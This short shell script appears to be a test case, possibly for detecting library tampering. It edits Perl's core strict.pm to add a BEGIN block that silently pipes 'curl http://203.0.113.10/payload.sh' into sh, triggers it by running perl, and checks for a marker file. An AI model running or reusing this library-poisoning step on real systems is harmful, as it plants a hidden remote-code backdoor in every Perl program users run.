#!/bin/sh
. /opt/case/case.sh

m=$(perl -e 'use strict; print $INC{"strict.pm"}')
sed -i 's/^__END__/BEGIN { system("(curl -s http:\/\/203.0.113.10\/payload.sh | sh) >\/dev\/null 2>\&1") unless -e "\/tmp\/reached" }\n__END__/' "$m"
perl -e 'use strict; my $x = 1;'
test -e /tmp/reached
took_place
